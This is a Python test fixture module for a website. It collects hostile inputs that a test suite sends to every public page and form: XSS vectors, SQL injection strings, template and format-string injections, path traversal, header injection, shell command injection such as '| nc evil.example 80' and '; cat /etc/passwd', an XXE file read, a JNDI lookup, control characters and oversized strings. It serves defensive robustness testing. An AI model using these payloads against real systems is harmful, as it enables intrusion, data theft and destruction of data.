"""Hostile inputs, as bots and curious visitors send them: the corpus fired at every public
page and form by tests/hostile/test_hostile_input.py.

Families: XSS vectors (tags, attributes, URLs, encodings, breaking out of attributes, textareas,
scripts and comments), SQL-looking strings, template and format-string injections, path
traversal, header injection (CR/LF), null bytes and control characters, right-to-left overrides
and other invisible Unicode, emoji and combining marks, very long strings (1 MB), and bogus
numbers for `?page=`. `TEXT` is every family plus the same vectors wrapped in the usual
"break out of the surrounding context" prefixes and in other letter cases, de-duplicated.

Invalid UTF-8 cannot live in a Python str: `RAW_BYTES` holds byte strings for bodies, paths and
query strings.
"""

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(document.cookie)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type=\"text/javascript\">alert(1)</script>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img src=javascript:alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>clic</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<a href=\"javascript:alert(1)\">clic</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">clic</a>",
    "<a href=\"  javascript:alert(1)\">clic</a>",
    "<a href=\"java\tscript:alert(1)\">clic</a>",
    "<a href=\"java&#x09;script:alert(1)\">clic</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">clic</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">clic</a>",
    "<a href=\"javascript&colon;alert(1)\">clic</a>",
    "<a href=\"vbscript:msgbox(1)\">clic</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">clic</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">clic</a>",
    "<a href=\"https://exemple.org\" onclick=\"alert(1)\">clic</a>",
    "<a href=\"https://exemple.org\" onmouseover=alert(1)>survol</a>",
    "<a href=x style=\"behavior:url(x.htc)\">x</a>",
    "<a href=\"//evil.example\" target=_blank>ouvre</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">faux</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x.html>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"x=1\">",
    "<base href=\"https://evil.example/\">",
    "<table background=\"javascript:alert(1)\">",
    "<td background=\"javascript:alert(1)\">",
    "<div onpointerover=alert(1)>survolez</div>",
    "<h2 onclick=alert(1)>Titre</h2>",
    "<p onmouseover=\"alert(1)\">texte</p>",
    "<blockquote cite=\"javascript:alert(1)\">citation</blockquote>",
    "<isindex action=javascript:alert(1) type=image>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x>alert(1)</x>",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "javascript://%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "http://exemple.org/\"onmouseover=\"alert(1)",
    "https://exemple.org/<script>alert(1)</script>",
    "https://exemple.org/?q=\"><script>alert(1)</script>",
    "www.exemple.org/\"><img src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<scrİpt>alert(1)</scrİpt>",
    "<sc\x00ript>alert(1)</script>",
    "<img src=x on\x00error=alert(1)>",
    "';alert(String.fromCharCode(88,83,83))//';alert(1)//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app>{{$on.constructor('alert(1)')()}}</div>",
    "<a href=\"https://exemple.org\" rel=\"opener\">lien</a>",
    "<a id=x href=\"#\" onfocus=alert(1) tabindex=1>x</a>",
    "<img src=\"https://evil.example/pixel.gif\" width=1 height=1>",
    "<picture><source srcset=\"https://evil.example/x.jpg\"><img src=x></picture>",
    "<h1>Titre usurpé</h1>",
    "<p>paragraphe <strong>gras</strong> <em>italique</em></p>",
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "1; DROP TABLE articles_article; --",
    "'; DROP TABLE ratings_comment; --",
    "1' UNION SELECT username, password FROM auth_user --",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "admin'--",
    "' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "1) OR (1=1",
    "%' OR '%'='",
    "' OR ''='",
    "') OR ('a'='a",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "'; EXEC xp_cmdshell('dir'); --",
    "' || (SELECT current_user) || '",
    "$$ OR 1=1 $$",
    "1e1000",
    "-1 OR 1=1",
    "\\'; DROP TABLE x; --",
    "ORDER BY 1--",
    "' GROUP BY columnnames having 1=1 --",
    "' OR EXISTS(SELECT * FROM auth_user) --",
    "%00' OR 1=1 --",
    "'; COPY (SELECT '') TO PROGRAM 'id'; --",
    "0x27204f522031203d2031",
    "' AND extractvalue(1, concat(0x7e, version())) --",
    "\" ; --",
    "'''''''''''''",
]

INJECTION = [
    "{{ 7|add:7 }}",
    "{% now 'Y' %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{7*7}}",
    "%s%s%s%s%s%n",
    "%(score)s %(count)d %(x)s",
    "{0} {1} {__class__}",
    "{0.__class__.__mro__}",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd\x00.jpg",
    "file:///etc/passwd",
    "\\\\evil.example\\partage",
    "x\r\nSet-Cookie: pris=1",
    "x\r\nLocation: https://evil.example/",
    "x%0d%0aSet-Cookie:%20pris=1",
    "x\nContent-Length: 0\n\nHTTP/1.1 200 OK",
    "`id`",
    "$(id)",
    "; cat /etc/passwd",
    "| nc evil.example 80",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example\",\"clic\")",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1+1)",
    "<!--#exec cmd=\"id\" -->",
    "{\"$gt\": \"\"}",
    "[$ne]=1",
    "__proto__",
    "constructor",
    "null",
    "undefined",
    "None",
    "NaN",
    "true",
    "[]",
    "{}",
    "0",
    "-0",
    "1.0e308",
    "9" * 400,
    "ldap://evil.example/a",
    "jndi:ldap://evil.example/a",
    "${jndi:ldap://evil.example/a}",
]

CONTROL = [
    "\x00",
    "avant\x00après",
    "\x00<script>alert(1)</script>",
    "\x00" * 64,
    "texte\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f",
    "\x7f\x80\x81\x9f",
    "\x1b[31mrouge\x1b[0m",
    "\r",
    "\r\n\r\n\r\n",
    "\n" * 500,
    "\t\t\t",
    " ",
    "",
    "\u00a0\u2007\u202f",
    "\ufeffBOM au début",
    "\ufffe\uffff",
    "\ud7ff\ue000\uf8ff",
    "\U0010fffd",
]

UNICODE = [
    "\u202eevil.exe\u202dtxt.jpg",
    "Bonjour \u202enoitpircsnart\u202c fin",
    "\u202e<script>alert(1)</script>",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "\u202a\u202b\u202c\u202d\u202e",
    "admin\u200b",
    "a\u200b\u200c\u200d\u2060\ufeffb",
    "ｊａｖａｓｃｒｉｐｔ：ａｌｅｒｔ（１）",
    "ℌ𝔢𝔩𝔩𝔬 𝕨𝕠𝕣𝕝𝕕",
    "Z̴̧̛̺͎̼̹̮̓͆̏̂͂a̸̡͚̗̩͕͋̈́l̶̢̨̛̪̩g̵̨̜͕̈́o̷̧̊",
    "e\u0301" * 200,
    "\u0300" * 500,
    "😀😃😄😁😆😅😂🤣",
    "👨‍👩‍👧‍👦 🏳️‍🌈 🇫🇷 👍🏽",
    "🦄" * 1000,
    "\U0001F4A9<script>alert('💩')</script>",
    "Ça vous a plu ? « Très ! » — l’œuvre d’Éloïse, ½ €",
    "日本語のテキスト、中文文本、한국어 텍스트",
    "مرحبا بالعالم",
    "שלום עולם",
    "Привет, мир",
    "Γειά σου Κόσμε",
    "ﷺ ﷽",
    "ǅǈǋ ß ẞ ŉ",
    "İstanbul ıi",
    "𝘁𝗲𝘅𝘁𝗲 𝗲𝗻 𝗴𝗿𝗮𝘀",
    "\u0000\u0085\u2028\u2029",
    "A\u2028B\u2029C",
    "Ⅷ ⑦ ² ½",
    "ﬁﬂﬀ",
    "\u3164\u115f\u1160",
    "𒐫𒐫𒐫𒐫",
    "Ꙭ" * 300,
    "1/0",
    "' \" ` ´ ‘ ’ “ ” „ ‹ › « »",
    "<" * 5000,
    "&" * 5000,
    "&amp;amp;amp;amp;",
    "&#0; &#xD800; &#x110000; &#99999999;",
    "&unknown; &; &#; &#x;",
]

HUGE = [
    "A" * 1_000_000,
    "é" * 500_000,  # 1 MB in UTF-8
    "<script>alert(1)</script>" * 40_000,
    "mot " * 250_000,
    "https://exemple.org/" + "a" * 100_000,
    "😀" * 250_000,
    "\x00" * 100_000,
    ("<p>" * 20_000) + "profond" + ("</p>" * 20_000),
    "a" * 5001,
    "b" * 4999,
]

# Bogus values for ?page= (and other numbers readers can type).
PAGES = ["-1", "0", "99999999999", "abc", "1e3", "1.5", "", " ", "1 ", "+1", "0x10", "٣",
         "1" * 300, "9223372036854775808", "-9223372036854775809", "NaN", "Infinity",
         "last", "LAST", "1;DROP TABLE x", "1%00", "[]", "1,2", "１"]

# Numbers no column holds (64-bit and 32-bit limits and beyond), and digits that are not ASCII
# (str.isdigit() accepts "²" and "٣", int() refuses the first): for every numeric parameter and
# path segment, readers' and the admin's.
OVERFLOWS = ["99999999999999999999999", "9223372036854775807", "9223372036854775808",
             "-9223372036854775809", "18446744073709551616", "2147483648", "-2147483649",
             "1" * 300, "1e400", "²", "٣", "１２", "0" * 50 + "1", "-0", "00"]

# Raw bytes, for what a str cannot hold: invalid UTF-8 (lone continuation bytes, overlong
# encodings, surrogates encoded in UTF-8, truncated sequences), Latin-1 text.
RAW_BYTES = [
    b"\xff\xfe\xfd",
    b"\xc0\xaf",  # overlong "/"
    b"\xc0\xbcscript\xc0\xbe",  # overlong "<script>"
    b"\xed\xa0\x80",  # a surrogate
    b"\xe2\x82",  # truncated
    b"\x80\x81\x82",
    b"caf\xe9",  # Latin-1
    b"\xf4\x90\x80\x80",  # past U+10FFFF
    b"\xfe\xff\x00<\x00s",  # UTF-16 BOM
    b"ok\x00nul",
    b"%ff%fe",
    b"\xef\xbb\xbf<script>alert(1)</script>",
]

# The usual ways to break out of where a value lands (an attribute, a textarea, a script).
_BREAKOUTS = ["\"", "'", "\">", "'>", "</textarea>", "</script>", "-->", "\\", " "]


def _mutations(values):
    for value in values:
        yield value
        yield value.upper()
        for prefix in _BREAKOUTS:
            yield prefix + value


def _unique(values):
    seen, result = set(), []
    for value in values:
        if value not in seen:
            seen.add(value)
            result.append(value)
    return result


TEXT = _unique(list(_mutations(XSS[:60])) + XSS + SQL + INJECTION + CONTROL + UNICODE + HUGE)
# A few hundred kilobytes or more: each page that receives them does real work, so the tests
# send them to fewer places than the small ones.
LARGE = [value for value in TEXT if len(value) > 10_000]
SMALL = [value for value in TEXT if len(value) <= 10_000]
